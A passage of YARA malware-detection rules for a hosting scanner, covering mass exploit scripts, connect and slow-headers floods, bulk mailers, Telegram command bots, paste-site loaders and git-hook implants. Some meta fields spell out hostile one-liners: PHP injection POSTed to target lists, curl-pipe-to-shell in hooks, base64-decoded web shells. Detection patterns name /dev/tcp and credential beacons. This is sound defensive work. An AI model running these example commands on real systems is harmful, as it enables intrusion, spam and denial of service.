        $f1 = /\bos\.fork\s{0,2}\(\s{0,2}\)|\bfork\s{0,2}(\(\s{0,2}\)|;)/
        $f2 = /\bos\.setsid\s{0,2}\(|\bsetsid\s{0,2}\(|POSIX::setsid/
    condition:
        filesize < 200KB and not hs_doc_file and (hs_lang_python or hs_lang_perl) and
        (filename matches /^\.[^.]/ or in_hidden_dir) and
        $a and $o and $r and $f1 and $f2 and ($v or #r >= 1)
}

/* A mass exploit run from a shell: every host of a target list gets a POST
 * whose data is PHP code or a command injection (the payload inline or in a
 * variable the script set). A site-health sweep sends GETs and logs codes. */
rule bot_mass_exploit_script : bot hacktool
{
    meta:
        description = "Shell mass exploit: a loop over a target list POSTing PHP code or a command injection to each host"
        severity = "high"
        technique = "PAY='<?php system(..) ?>'; while read host; do curl -d \"code=$PAY\" http://$host/pma/scripts/setup.php; done < ips.txt"
        seen = "none"
    strings:
        $lp = /while (IFS= )?read (-r )?[a-zA-Z_]\w{0,20}|\sin \$\(cat |\sin `cat /
        $po = /\b(curl|wget)\s[^\n]{0,200}\s(-d|--data[\w-]{0,8}|-X\s{0,2}POST|--post-data|-F)\s/
        // the payload: PHP code that runs something, or a shell injection that fetches and runs
        // (the call right after the tag: "<?php" then 80 bytes scanned is tried in every PHP file)
        $pl1 = /<\?php\s{1,2}@?(system|passthru|shell_exec|exec|eval|assert|file_put_contents)\s{0,2}\(/
        // (keyed on the fetch word: a regex starting at ";" or "|" is tried everywhere)
        $pl2 = /(wget|curl)(\s|%20|\$\{IFS\})[^\n'"]{0,120}(\|\s{0,2}(ba)?sh|-O-?\s{0,2}\||%7[cC]\s{0,2}sh|-O(\s|%20)\/tmp)/
    condition:
        filesize < 200KB and not hs_doc_file and (hs_lang_shell or hs_shebang) and
        // the fetch-and-run is the POST's payload: after the POST word on its line, or
        // set before the loop in a variable the data names
        ($pl1 or for any k in (1..#pl2) : ( for any j in (1..#po) : ( @pl2[k] > @po[j] and @pl2[k] < @po[j] + !po[j] + 200 ) ) or
         for any k in (1..#pl2) : ( for any i in (1..#lp) : ( @pl2[k] < @lp[i] ) )) and
        for any i in (1..#lp) : ( $po in (@lp[i] .. @lp[i] + 500) )
}

/* A forward proxy in a script: the CONNECT method answered with "200
 * Connection established" and the bytes relayed. Medium: developers run
 * such proxies too; dropped in a docroot or /tmp it carries others' traffic. */
rule bot_http_connect_proxy : bot
{
    meta:
        description = "HTTP(S) forward proxy script: CONNECT answered and both directions relayed"
        severity = "medium"
        technique = "if method == 'CONNECT': up = create_connection((host, port)); c.sendall(b'HTTP/1.1 200 Connection established'); select loop recv/sendall"
        seen = "none"
    strings:
        $cn = "CONNECT" ascii
        $ok = /200 Connection established/ nocase
        $l = /\.listen\s{0,2}\(|\bListen\s{0,2}=>/
        $a = /\.accept\s{0,2}\(\s{0,2}\)|->\s{0,2}accept\b/
        $o = /\bcreate_connection\s{0,2}\(|\.connect\s{0,2}\(|PeerAddr\s{0,2}=>/
        $r = /\.sendall\s{0,2}\(\s{0,2}\w{1,30}\s{0,2}\)|\bsyswrite\s{0,2}\(/
    condition:
        filesize < 200KB and not hs_doc_file and (hs_lang_python or hs_lang_perl) and all of them
}

/* ---- round 8 (branch script8, seen = "none"): written from the techniques
 * on hand-written variants (tests/fixtures/scripts/{malicious,benign}/r8_*), no corpus or
 * held-out sample opened. */

/* A connect flood: an endless loop that opens a non-blocking socket per
 * round to a random port of a target from the command line, started many
 * times over (processes, threads, forks). A port scanner walks the ports in
 * order and stops; a health check connects to a known port and waits. */
rule bot_connect_flood_script : bot
{
    meta:
        description = "Connect flood: an endless loop opening a non-blocking connection per round to a random port of a target from argv, in many workers"
        severity = "high"
        technique = "def w(t): while True: s = socket.socket(); s.setblocking(False); s.connect_ex((t, random.randint(1, 65535))) ; for _ in range(int(argv[2])): Process(target=w).start()"
        seen = "none"
    strings:
        // (literals: the loop regexes cost 6 M more)
        $lp1 = "while True:" ascii
        $lp2 = "while 1:" ascii
        $lp3 = "while (1)" ascii
        $lp4 = "for (;;)" ascii
        $nb = /\.setblocking\s{0,2}\(\s{0,2}(False|0)\s{0,2}\)|\.settimeout\s{0,2}\(\s{0,2}0(\.0{1,3})?\s{0,2}\)|Blocking\s{0,4}=>\s{0,4}0\b/
        $cn = /\.connect_ex\s{0,2}\(|\.connect\s{0,2}\(\s{0,2}\(|IO::Socket::INET\s{0,2}->\s{0,2}new\s{0,2}\(/
        $rp = /random\.randint\s{0,2}\(\s{0,2}[0-9]{1,4}\s{0,2},\s{0,2}6553[0-9]\s{0,2}\)|\brand\s{0,2}\(?\s{0,2}6553[0-9]/
        $in = /\bsys\.argv\b|@ARGV|\$ARGV\s{0,2}\[|\bargparse\b/
        $wk = /(Process|Thread)\s{0,2}\(\s{0,2}target\s{0,2}=|\bfork\s{0,2}\(\s{0,2}\)|threads->create/
    condition:
        filesize < 200KB and not hs_doc_file and (hs_lang_python or hs_lang_perl) and $in and $wk and
        for any of ($lp*) : ( for any i in (1..#) : ( $nb in (@[i] .. @[i] + 400) and $cn in (@[i] .. @[i] + 400) and
            $rp in (@[i] .. @[i] + 400) ) )
}

/* A shell list mailer without a loop: xargs hands every line of the list to
 * sendmail/mail/swaks/curl as the recipient ({} or the -I name), with a
 * campaign sign: parallel senders (-P N), a random sender (shuf, $RANDOM),
 * or the recipient written into the letter (sed s/../{}/). An alert that
 * mails each admin of a file with xargs has none of them. */
rule bot_xargs_list_mailer : bot mailer
{
    meta:
        description = "Shell list mailer: xargs runs a sendmail/mail/swaks/curl per line of a list, the line as the recipient, in parallel or with a random sender"
        severity = "high"
        technique = "cat list | xargs -P 8 -I {} sh -c 'sed \"s/__TO__/{}/\" letter | sendmail -f \"$(shuf -n1 froms)\" {}'"
        seen = "none"
    strings:
        $x = /\bxargs\s[^\n|;]{0,80}-I\s{0,2}['"]?(\{\}|[A-Za-z_%@]\w{0,10})['"]?\s[^\n]{0,300}\b(sendmail|mailx|mutt|mail\s{1,4}-s|swaks|--mail-rcpt)\s[^\n]{0,200}(\{\}|\$@|\$1|\s[@%]\s)/
        $l1 = /\bcat\s{1,4}["']?[$\w.\/{}-]{1,60}["']?\s{0,2}\|\s{0,2}xargs\b/
        $l2 = /\bxargs\s[^\n|]{0,80}(-a\s{1,4}\S|<\s{0,2}["']?[$\w.\/{}-])/
        $l3 = /\bdone\s{0,2}\|\s{0,2}xargs\b/
        $k1 = /\bxargs\s[^\n|;]{0,60}-P\s{0,2}[0-9]/
        $k2 = /\bshuf\b|\$RANDOM\b/
        $k3 = /\bsed\s[^\n]{0,20}["']s[\/|#][^\n]{0,60}\{\}/
    condition:
        filesize < 200KB and not hs_doc_file and (hs_lang_shell or hs_shebang or extension == "") and
        $x and any of ($l*) and any of ($k*)
}

/* ---- round 9 (branch script9, seen = "none"): written from the
 * techniques on hand-written variants (tests/fixtures/scripts/{malicious,benign}/r9_*). */

/* A Python bot controlled through Telegram: the updates read (the Bot API's
 * getUpdates long poll, or a library's polling and command handlers), the
 * message's text run as a shell command, the output sent back to the chat.
 * An alert bot only sends; a status bot runs fixed argument lists picked
 * from a table, never the text itself with a shell. */
rule bot_telegram_command_shell : bot
{
    meta:
        description = "Telegram-controlled bot: messages received from the Bot API (getUpdates, polling, command handlers) run as shell commands and the output sent back"
        severity = "high"
        technique = "requests.get(API + 'getUpdates') .. subprocess.check_output(msg['text'], shell=True) .. sendMessage; telebot @bot.message_handler: os.popen(m.text).read() + bot.reply_to; python-telegram-bot CommandHandler: subprocess.run(' '.join(context.args), shell=True) + reply_text"
        seen = "none"
    strings:
        $tg1 = "api.telegram.org" ascii
        $tg2 = /\bimport\s{1,4}telebot\b|\bfrom\s{1,4}(telegram|telegram\.ext|aiogram|telethon)\s{1,4}import\b/
        // the orders received
        $rx1 = "getUpdates" ascii
        $rx2 = /\b(infinity_polling|run_polling|start_polling|polling)\s{0,2}\(|\bmessage_handler\s{0,2}\(|\bCommandHandler\s{0,2}\(|\bMessageHandler\s{0,2}\(/
        // a shell run of something that is not a literal
        $x1 = /\bsubprocess\.(run|call|Popen|check_output|check_call)\s{0,2}\(\s{0,2}[a-zA-Z_][^\n]{0,160}\bshell\s{0,2}=\s{0,2}(True|1)\b/
        $x2 = /\bPopen\s{0,2}\(\s{0,2}[a-zA-Z_][\w.\[\]:'"]{0,40}\s{0,2},[^\n]{0,120}\bshell\s{0,2}=\s{0,2}(True|1)\b/
        $x3 = /\bos\.(popen|system)\s{0,2}\(\s{0,2}[a-zA-Z_]/
        $x4 = /\b(subprocess\.|commands\.)?(getoutput|getstatusoutput)\s{0,2}\(\s{0,2}[a-zA-Z_]/
        $x5 = /\bcreate_subprocess_shell\s{0,2}\(\s{0,2}[a-zA-Z_]/
        // the answer sent back
        $tx = /\bsendMessage\b|\b(reply_text|reply_to|send_message|reply_document|send_document)\s{0,2}\(/
    condition:
        filesize < 1MB and hs_lang_python and not hs_doc_file and any of ($tg*) and any of ($rx*) and
        any of ($x*) and $tx
}

/* Code fetched from a paste site (pastebin's raw view, paste.ee, hastebin,
 * a gist's raw file, rentry, dpaste...) and run: Python exec() of the text,
 * however exec is reached (a helper that returns the text, compile(),
 * getattr(builtins, ..), a Python 2 exec statement), or a shell piping it
 * to an interpreter. A paste client uploads and prints; it runs nothing. */
rule bot_paste_site_loader : bot
{
    meta:
        description = "Loader fetching code from a paste site (pastebin raw, paste.ee, hastebin, gist raw, rentry...) and running it"
        severity = "high"
        technique = "exec(httpx.get('https://pastebin.com/raw/X').text); src = urlopen('https://paste.ee/r/X').read(); getattr(builtins, 'ex'+'ec')(src); exec base64.b64decode(urllib2.urlopen(U).read()) in globals(); curl -s https://hastebin.com/raw/X | sh"
        seen = "none"
    strings:
        $ps = /\b(pastebin\.com\/(raw|dl)\b|pastebin\.com\/raw\.php|paste\.ee\/(r|d)\/|hastebin\.(com|skyra\.pw)\/raw\/|toptal\.com\/developers\/hastebin\/raw\/|gist\.githubusercontent\.com\/|rentry\.(co|org)\/[\w-]{1,40}\/raw|dpaste\.(com|org)\/[\w-]{1,30}(\/raw|\.txt)|paste\.rs\/|ghostbin\.\w{2,4}\/paste\/[\w-]{1,30}\/raw|controlc\.com\/|pastie\.org\/p\/[\w-]{1,30}\/raw|termbin\.com\/|bpa\.st\/raw\/|paste\.centos\.org\/view\/raw\/|pastebin\.pl\/view\/raw\/)/
        // Python: the text fetched
        $pf = /\b(urlopen|urllib\d?\.request\.urlopen|requests\.get|httpx\.get|\.get)\s{0,2}\(/
        // and run
        $px1 = /\bexec\s{0,2}\(\s{0,2}(compile\s{0,2}\(\s{0,2})?[a-zA-Z_]/
        $px2 = /\bexec\s{1,4}[a-zA-Z_][^\n]{0,120}\bin\s{1,4}(globals|locals|\w{1,20})\b/
        $px3 = /\bgetattr\s{0,2}\(\s{0,2}(__)?builtins?(__)?\s{0,2},|\b__builtins__\s{0,2}(\.\s{0,2}__dict__\s{0,2})?\[|\bbuiltins\.(exec|eval)\s{0,2}\(/
        // shell: fetched and piped to an interpreter
        $sx = /\b(curl|wget)\s[^\n|]{0,200}\b(pastebin\.com\/raw|paste\.ee\/r\/|hastebin\.com\/raw\/|gist\.githubusercontent\.com\/|rentry\.(co|org)\/[\w-]{1,40}\/raw|dpaste\.(com|org)\/|paste\.rs\/|termbin\.com\/)[^\n|]{0,200}\|\s{0,4}(sudo\s{1,4})?(\/usr)?(\/bin\/)?((ba|z|da|k)?sh|perl|python[0-9.]{0,4}|php)\b/
    condition:
        filesize < 1MB and not hs_doc_file and $ps and (
            (hs_lang_python and $pf and any of ($px*)) or $sx)
}

/* A slow-headers flooder in Perl: many sockets opened to one server, each
 * sent a request line and headers but never the blank line that ends a
 * request, kept in a collection and fed one more header in a sleeping loop.
 * A client ends its headers with "\r\n\r\n"; a load test uses LWP. */
rule bot_perl_slow_headers_flood : bot
{
    meta:
        description = "Perl slow-headers (slowloris-like) flooder: many sockets each holding an unfinished HTTP request, fed a header at a time in a sleeping loop"
        severity = "high"
        technique = "for (1..$n) { $s = IO::Socket::INET->new(..); print $s \"GET /?$r HTTP/1.1\\r\\nHost: $h\\r\\n\"; push @s, $s } while (1) { print $_ \"X-a: \" . int(rand(5000)) . \"\\r\\n\" for @s; sleep 15 }"
        seen = "heldout5,train7"
    strings:
        // the request line, however the path is spelt between the method and the
        // version: a literal, interpolated, joined ("GET /?" . int(rand(N)) . " HTTP/1.1\r\n"),
        // a variable ("GET $p HTTP/1.1") or a format; the line end as \r\n, octal,
        // hex or Socket's $CRLF (round 10: round 9 took a literal path or "GET /" . $p only)
        $rl = /\b(GET|POST|HEAD|PUT) [\/\$%][^\n]{0,160}HTTP\/1\.[01](\\r\\n|\\015\\012|\\x0[dD]\\x0[aA]|["']\s{0,2}\.\s{0,2}\$CRLF|\$CRLF)/
        // the blank line that ends a request, in any of those spellings
        $end = "\\r\\n\\r\\n" ascii
        $end2 = "\\015\\012\\015\\012" ascii
        $end3 = "$CRLF$CRLF" ascii
        // or the blank line written alone: print $s "\r\n"; syswrite($s, "\r\n")
        $end4 = /\b(print\s{1,4}\{?\$\w{1,30}\}?\s{1,4}|syswrite\s{0,2}\(\s{0,2}\$\w{1,30}\s{0,2},\s{0,2})"\\r\\n"\s{0,2}[;)]/
        $so = /\bIO::Socket::(INET|IP|SSL)\s{0,2}->\s{0,2}new\s{0,2}\(|\bsocket\s{0,2}\(\s{0,2}(my\s{1,4})?[\$\w]{1,30}\s{0,2},\s{0,2}(PF_INET|AF_INET|2)\b|\bnew\s{1,4}IO::Socket::(INET|IP|SSL)\b/
        // many of them, opened in a counted loop and kept
        // (train7) counted from 0 as well: for my $i (0 .. $n - 1)
        $n1 = /\b[01]\s{0,2}\.\.\s{0,2}\$\w{1,30}/
        // (round 10) a C-style counter (literals: a regex keyed on `for` costs 6 M on PHP),
        // or "until the pool holds N"
        $n2 = "for (my $" ascii
        $n4 = "for(my $" ascii
        $n3 = /\b(while|until)\s{0,2}\(\s{0,2}(scalar\s{0,2}\(?\s{0,2})?@\w{1,30}\s{0,2}\)?\s{0,2}(<|>=|!=)\s{0,2}\$\w{1,30}/
        $k1 = /\bpush\s{0,2}\(?\s{0,2}@\w{1,30}\s{0,2},\s{0,2}\$\w{1,30}/
        $k2 = /@\w{1,30}\s{0,2}=\s{0,2}(map|grep)\s{0,2}\{/
        // (or a hash of them walked with keys; a regex on `$h{$k} = $fh` or
        // `$a[$i] = f(` costs 400 M on PHP, where every line stores into an array)
        $k3 = /\bkeys\s{1,2}%\w{1,30}/
        // (round 10) the socket stored straight into an array or hash slot (keyed on the class)
        $k4 = /[\]}]\s{0,2}=\s{0,2}(new\s{1,4})?IO::Socket::(INET|IP|SSL)\b/
        // the pause between header lines
        $sl = /\bsleep\s{0,2}\(?\s{0,2}[\d$]|\bselect\s{0,2}\(\s{0,2}undef\s{0,2},\s{0,2}undef\s{0,2},\s{0,2}undef\s{0,2},|\busleep\s{0,2}\(/
    condition:
        filesize < 512KB and hs_lang_perl and not hs_doc_file and $rl and not any of ($end*) and $so and
        any of ($n*) and any of ($k*) and $sl
}

/* An FTP password guesser in Perl: Net::FTP connections made in a loop over
 * a word list or user:password pairs read from a file, each tried with
 * login($user, $pass), the working ones printed or kept. A backup script
 * logs in once with its configured account and then walks its files. */
rule bot_perl_ftp_login_guesser : bot hacktool
{
    meta:
        description = "Perl FTP password guesser: Net::FTP logins tried in a loop over a word list or combo file"
        severity = "high"
        technique = "while (my $pw = <$W>) { my $f = Net::FTP->new($h); if ($f->login($u, $pw)) { print \"[+] $u:$pw\" } }; foreach $cp (@pairs) { ($u, $p) = @$cp; $f->login($u, $p) or next }"
        seen = "none"
    strings:
        $nf = /\bNet::FTP\s{0,2}->\s{0,2}new\s{0,2}\(/
        $lg = /->\s{0,2}login\s{0,2}\(\s{0,2}\$\w{1,30}\s{0,2},\s{0,2}\$\w{1,30}\s{0,2}\)/
        // the loop head: over a file's lines or over a list
        $lp1 = /\bwhile\s{0,2}\(\s{0,2}(defined\s{0,2}\(\s{0,2})?(my\s{1,4})?\$\w{1,30}\s{0,2}=\s{0,2}(<\s{0,2}\$?\w{1,30}\s{0,2}>|readline)/
        $lp2 = /\bfor(each)?\s{1,4}(my\s{1,4})?\$\w{1,30}\s{0,2}\(\s{0,2}@\w{1,30}\s{0,2}\)/
        // a list from a file
        // (three strings: one regex with a "<" branch has no atom yara likes)
        $rf1 = /\bopen\s{0,2}\(?\s{0,2}(my\s{1,4})?\$?\w{1,30}\s{0,2},/
        $rf2 = /<\$\w{1,30}>/
        $rf3 = "<STDIN>" ascii
    condition:
        filesize < 512KB and hs_lang_perl and not hs_doc_file and any of ($rf*) and
        for any i in (1..#lg) : (
            (for any j in (1..#lp1) : ( @lp1[j] < @lg[i] and @lp1[j] + 600 > @lg[i] ) or
             for any j in (1..#lp2) : ( @lp2[j] < @lg[i] and @lp2[j] + 600 > @lg[i] )) and
            for any k in (1..#nf) : ( @nf[k] < @lg[i] and @nf[k] + 300 > @lg[i] ) )
}

/* A MIME::Lite bulk mailer: a list read from a file (or argv, stdin), a
 * message built per entry with the entry as its To, sent each round, with
 * a sign of a campaign (a subject or From made per message, an HTML letter
 * with the address filled in, pauses every N messages, a relay with a
 * login). A report mails one letter to a fixed list joined into one To. */
rule bot_perl_mimelite_list_mailer : bot mailer
{
    meta:
        description = "Perl MIME::Lite bulk mailer: one message per address of a list file, sent in the loop"
        severity = "high"
        technique = "for my $dest (@to) { my $m = MIME::Lite->new(From => .., To => $dest, Subject => .., Type => 'multipart/alternative'); $m->attach(Type => 'text/html', Data => $letter =~ s/%EMAIL%/$dest/gr); $m->send }"
        seen = "none"
    strings:
        $new = /\bMIME::Lite\s{0,2}->\s{0,2}new\s{0,2}\(/
        // (spaces, not \s: a `\s` before `=>` made YARA key it on `=>`, +14 M)
        $to = /\bTo {1,8}=> {0,2}\$\w|\bTo=>\$\w/
        $snd = /->\s{0,2}(send|send_by_smtp|send_by_sendmail)\s{0,2}\(?/
        $lp1 = /\bwhile\s{0,2}\(\s{0,2}(defined\s{0,2}\(\s{0,2})?(my\s{1,4})?\$\w{1,30}\s{0,2}=\s{0,2}(<\s{0,2}\$?\w{1,30}\s{0,2}>|readline)/
        $lp2 = /\bfor(each)?\s{1,4}(my\s{1,4})?\$\w{1,30}\s{0,2}\(\s{0,2}@\w{1,30}\s{0,2}\)/
        $rf = /\bopen\s{0,2}\(?\s{0,2}(my\s{1,4})?\$?\w{1,30}\s{0,2},|\blocal\s{1,4}@ARGV\b|\bshift\s{0,2}(\(\s{0,2})?@ARGV\b|<STDIN>|\$ARGV\[/
        // campaign signs
        $c1 = /text\/html/
        $c2 = /\bSubject\s{0,8}=>\s{0,4}\$\w{1,30}/
        $c3 = /\bsleep\s{0,2}\(?\s{0,2}\d|\bselect\s{0,2}\(\s{0,2}undef/
        $c4 = /\bAuth(User|Pass)\s{0,4}=>|\bs\/%\w{1,20}%\/\$\w{1,30}\//
    condition:
        filesize < 512KB and hs_lang_perl and not hs_doc_file and $rf and
        for any i in (1..#new) : ( $to in (@new[i] .. @new[i] + 400) and $snd in (@new[i] .. @new[i] + 800) and
            (for any j in (1..#lp1) : ( @lp1[j] < @new[i] and @lp1[j] + 600 > @new[i] ) or
             for any j in (1..#lp2) : ( @lp2[j] < @new[i] and @lp2[j] + 600 > @new[i] )) ) and
        2 of ($c*)
}

/* Git hooks as persistence. A hook file (a file named as git's hooks are:
 * REPO/.git/hooks/NAME, a husky or core.hooksPath directory) runs at every commit, checkout or merge: one
 * that pipes a download to a shell (from any source: no build step fetches
 * code in a hook), starts a hidden or temp-dir program in the background,
 * opens /dev/tcp or runs fetched Python is an implant. And a script that
 * writes such a hook into repositories or points core.hooksPath at its own
 * directory. husky, lefthook and the pre-commit framework run linters and
 * the project's own tools. */
private rule hs_git_hook_payload
{
    strings:
        $p1 = /\b(curl|wget)\s[^\n|]{0,300}\|\s{0,4}(sudo\s{1,4})?(\/usr)?(\/bin\/)?((ba|z|da|k)?sh|perl|python[0-9.]{0,4}|node)\b/
        $p2 = /\b(nohup|setsid)\s{1,4}["']?[^\n;&|\s]{0,60}\/\.[\w.-]{1,40}\//
        $p3 = /(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|\/\.[\w.-]{1,40}\/)[\w.\/-]{0,80}["']?\s{0,4}(>\s{0,2}\/dev\/null\s{0,2}2>&1|&>\s{0,2}\/dev\/null|2>\s{0,2}\/dev\/null)?\s{0,4}&\s{0,4}(\)|;|\n|disown|\\n)/
        $p4 = "/dev/tcp/" ascii
        $p5 = /\bpython[0-9.]{0,4}\s{1,4}-c\s[^\n]{0,300}\b(urlopen|requests\.get)\b/
        $p6 = /\bbase64\s{1,4}(-d|--decode)\b[^\n]{0,40}\|\s{0,4}(ba)?sh\b/
        // round 10 (heldout5): a hook that plants a file: a blob it carries decoded into a
        // file (echo B64 | base64 -d > f), or anything decoded into code or a temp dir
        // (base64 -d > x.php, xxd -r -p > /tmp/x, openssl base64 -d -out x.sh); a hook
        // that decodes the project's .env.b64 into .env writes data
        $p7 = /[A-Za-z0-9+\/]{16}={0,2}['"]?\s{0,2}\|\s{0,2}(base64\s{1,4}(-d|--decode|-D|-di)|xxd\s{1,4}(-r\s{1,4}-p|-p\s{1,4}-r|-r)|openssl\s{1,4}(enc\s{1,4})?-?(base64|a)\s{1,4}-d)\b[^\n|;&]{0,80}(>|\|\s{0,2}(sudo\s{1,4})?tee\s|-out\s)/
        $p9 = /\b(base64\s{1,4}(-d|--decode|-D|-di)|xxd\s{1,4}(-r\s{1,4}-p|-p\s{1,4}-r|-r)|openssl\s{1,4}(enc\s{1,4})?-?(base64|a)\s{1,4}-d)\b[^\n|;&]{0,80}(>{1,2}|\|\s{0,2}(sudo\s{1,4})?tee(\s{1,4}-a)?|-out)\s{0,2}["']?([^\s;|&]{0,200}\.(php[0-9s]?|phtml|phar|inc|sh|py|pl|cgi|so)\b|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)/
        // or reports the host it runs on to a bare address (a beacon: what a deploy
        // hook calls is its CI's name)
        $p8 = /\b(curl|wget)\s[^\n]{0,120}https?:\/\/\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}[:\/][^\n]{0,200}\$\(\s{0,2}(hostname|whoami|id|uname|curl\s[^)\n]{0,60}ifconfig|cat\s{1,4}\/etc\/(passwd|hostname))\b/
    condition:
        any of them
}

/* A shell script (or a hook, a crontab line) that writes PHP from encoded
 * text: base64 or hex decoded and redirected into a .php file, or a blob
 * that encodes a PHP tag ("<?php" is "PD9waHA" in base64) decoded into any
 * file. A web shell planted in the docroot by something that is not PHP,
 * so the PHP layer never sees the writer. Installers copy PHP files; they
 * do not carry them encoded. (round 10, heldout5) */
rule bot_shell_decode_drop_php : bot webshell
{
    meta:
        description = "Shell code decoding base64/hex text into a PHP file (a web shell planted by a script, a hook or a cron job)"
        severity = "high"
        technique = "echo 'PD9waHAg..' | base64 -d > \"$ROOT/public/.well-known/ping.php\"; printf %s \"$B\" | base64 --decode > wp-content/uploads/x.php; xxd -r -p <<< 3c3f706870.. > f.php"
        seen = "heldout5"
    strings:
        $d1 = /\b(base64\s{1,4}(-d|--decode|-D|-di)|xxd\s{1,4}(-r\s{1,4}-p|-p\s{1,4}-r|-r)|openssl\s{1,4}(enc\s{1,4})?-?(base64|a)\s{1,4}-d)\b[^\n|;&]{0,80}(>{1,2}|\|\s{0,2}(sudo\s{1,4})?tee(\s{1,4}-a)?|-out)\s{0,2}["']?[^\s;|&]{0,200}\.(php[0-9s]?|phtml|phar|inc)\b/
        // "<?php" / "<?=" / "<? " encoded (every alignment the encoder writes at the start), decoded
        $b1 = /['"\s=](PD9waHA|PD89|PD8g)[A-Za-z0-9+\/=]{8,8000}['"]?\s{0,2}(\||;|\n)[^\n]{0,80}\bbase64\s{1,4}(-d|--decode|-D|-di)\b[^\n|;&]{0,80}>/
        $b2 = /\bbase64\s{1,4}(-d|--decode|-D|-di)\b\s{0,4}<<<\s{0,2}["']?(PD9waHA|PD89|PD8g)[A-Za-z0-9+\/=]{8,8000}['"]?\s{0,2}>/
        $h1 = /3c3f706870[0-9a-fA-F]{8,16000}['"]?[^\n]{0,40}\bxxd\b/
    condition:
        filesize < 512KB and not hs_doc_file and
        (hs_lang_shell or hs_shebang or hs_crontab_text or
         filename matches /^(pre-commit|post-commit|post-checkout|post-merge|pre-push|post-receive|post-update|post-rewrite)$/) and
        any of them
}

rule bot_git_hook_implant : bot
{
    meta:
        description = "Git hook (a file named post-merge, pre-commit, post-checkout...) that fetches and runs code, starts a hidden or temp-dir program in the background, or opens /dev/tcp"
        severity = "high"
        technique = ".git/hooks/post-merge: (curl -fsSL https://x/s.sh | sh) >/dev/null 2>&1 &; post-checkout: nohup \"$HOME/.local/share/.x/d\" >/dev/null 2>&1 &"
        seen = "heldout5"
    condition:
        filesize < 256KB and
        // by the hook's name, not its path: a rule that reads `filepath` makes the
        // scanner judge every copy of a file apart (no verdict reused for the same
        // WordPress in a hundred accounts: scan_memo.sh)
        filename matches /^(pre-commit|pre-merge-commit|prepare-commit-msg|commit-msg|post-commit|pre-rebase|post-checkout|post-merge|pre-push|pre-receive|post-receive|post-update|push-to-checkout|pre-auto-gc|post-rewrite|reference-transaction|applypatch-msg|pre-applypatch|post-applypatch|sendemail-validate|post-index-change)$/ and
        not hs_doc_file and hs_git_hook_payload
}

rule bot_git_hook_install : bot
{
    meta:
        description = "Script writing a git hook that fetches and runs code or starts a hidden program, or pointing core.hooksPath at its own directory of such hooks"
        severity = "high"
        technique = "for g in $(find ~ -name .git); do printf '#!/bin/sh\\n(curl .. | sh) &\\n' > $g/hooks/post-merge; chmod +x ..; done; git config --global core.hooksPath ~/.config/.h"
        seen = "heldout5"
    strings:
        $hk = /hooks\/(pre-commit|pre-push|pre-rebase|pre-merge-commit|post-merge|post-checkout|post-commit|post-rewrite|post-receive|pre-receive|post-update|prepare-commit-msg|commit-msg)\b|["'](pre-commit|pre-push|post-merge|post-checkout|post-commit|post-rewrite)["']/
        $hp = /\bcore\.hooksPath\b/
        $gl = /\bgit\s{1,4}config\s{1,4}(--global|--system)\s{1,4}core\.hooksPath\s/
        // the hook's payload (hs_git_hook_payload's), near the hook's name: a
        // developer's setup script may install tools with curl | sh and, far
        // from it, copy the project's hooks
        $p1 = /\b(curl|wget)\s[^\n|]{0,300}\|\s{0,4}(sudo\s{1,4})?(\/usr)?(\/bin\/)?((ba|z|da|k)?sh|perl|python[0-9.]{0,4}|node)\b/
        $p2 = /\b(nohup|setsid)\s{1,4}["']?[^\n;&|\s]{0,60}\/\.[\w.-]{1,40}\//
        $p3 = /(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|\/\.[\w.-]{1,40}\/)[\w.\/-]{0,80}["']?\s{0,4}(>\s{0,2}\/dev\/null\s{0,2}2>&1|&>\s{0,2}\/dev\/null|2>\s{0,2}\/dev\/null)?\s{0,4}&\s{0,4}(\)|;|\n|disown|\\n)/
        $p4 = "/dev/tcp/" ascii
        $p5 = /\bpython[0-9.]{0,4}\s{1,4}-c\s[^\n]{0,300}\b(urlopen|requests\.get)\b/
        $p6 = /\bbase64\s{1,4}(-d|--decode)\b[^\n]{0,40}\|\s{0,4}(ba)?sh\b/
        $p7 = /[A-Za-z0-9+\/]{16}={0,2}['"]?\s{0,2}\|\s{0,2}(base64\s{1,4}(-d|--decode|-D|-di)|xxd\s{1,4}(-r\s{1,4}-p|-p\s{1,4}-r|-r)|openssl\s{1,4}(enc\s{1,4})?-?(base64|a)\s{1,4}-d)\b[^\n|;&]{0,80}(>|\|\s{0,2}(sudo\s{1,4})?tee\s|-out\s)/
        $p9 = /\b(base64\s{1,4}(-d|--decode|-D|-di)|xxd\s{1,4}(-r\s{1,4}-p|-p\s{1,4}-r|-r)|openssl\s{1,4}(enc\s{1,4})?-?(base64|a)\s{1,4}-d)\b[^\n|;&]{0,80}(>{1,2}|\|\s{0,2}(sudo\s{1,4})?tee(\s{1,4}-a)?|-out)\s{0,2}["']?([^\s;|&]{0,200}\.(php[0-9s]?|phtml|phar|inc|sh|py|pl|cgi|so)\b|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)/
        $p8 = /\b(curl|wget)\s[^\n]{0,120}https?:\/\/\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}[:\/][^\n]{0,200}\$\(\s{0,2}(hostname|whoami|id|uname|curl\s[^)\n]{0,60}ifconfig|cat\s{1,4}\/etc\/(passwd|hostname))\b/
    condition:
        filesize < 512KB and not hs_doc_file and
        (hs_lang_shell or hs_shebang or hs_lang_python or hs_lang_perl) and
        ($hk or ($hp and $gl)) and hs_git_hook_payload and
        for any of ($p*) : ( for any i in (1..#) : (
            for any j in (1..#hk) : ( @hk[j] > @[i] - 600 and @hk[j] < @[i] + 600 ) or
            for any j in (1..#gl) : ( @gl[j] > @[i] - 600 and @gl[j] < @[i] + 600 ) ) )
}

/* ---- round 11 (branch fix6-bot, seen = "train6"): the causes behind the
 * bots train6 missed (docs/script-rules.md, "Round 11: train6"), written
 * for the technique in every language a hosting account runs. */

/* A bot whose channel is a chat service: it reads the messages sent to it
 * (Telegram's getUpdates, a Discord channel's messages, Slack's history),
 * runs the text as a command line in whatever language it is written in,
 * and answers with the output (sendMessage, a webhook, a channel post). A
 * notifier only sends; a chat-ops bot that maps a word to a fixed command
 * list runs literals. */
rule bot_chat_c2_command_exec : bot
{
    meta:
        description = "Chat-controlled bot (Telegram, Discord, Slack): the messages it reads run as shell commands and the output posted back, in any language"
        severity = "high"
